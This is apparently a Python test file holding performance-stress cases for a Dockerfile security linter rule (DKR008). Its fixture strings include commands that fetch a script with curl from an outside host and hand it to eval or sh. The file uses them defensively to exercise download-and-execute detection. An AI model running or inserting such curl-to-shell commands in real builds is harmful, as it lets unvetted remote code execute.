"""Linear-time cases of shell scripts that a loop would read again for each of their
parts (tests/hostile/test_linear_time.py)."""

from __future__ import annotations

_LONG = 99_000  # a line may hold 100,000 characters (linear_time_cases.LONG)

SHELL_CASES = {
    # A command's own assignments are set for the scripts it runs and unset after it: as
    # many steps as it has, not as many as the variables held.
    "dockerfile-download-variables-in-environments": (
        "Dockerfile",
        "FROM python:3.12-slim\nUSER app\nRUN "
        + "".join(f"v{i}=$(curl https://x.io/i); " for i in range(1_000))
        + "".join(f"v{i}=1 w{i}=$(echo {i}) sh -c 'echo {i}'; " for i in range(1_000))
        + "w=$(curl https://x.io/i) sh -c 'eval \"$w\"'\n",
        "DKR008",
    ),
    "dockerfile-download-output-options": (
        "Dockerfile",
        "FROM python:3.12-slim\nUSER app\nRUN curl https://x.io/i "
        + "-o >(cat) " * (_LONG // 12)
        + "-o >(sh)\n",
        "DKR008",
    ),
}
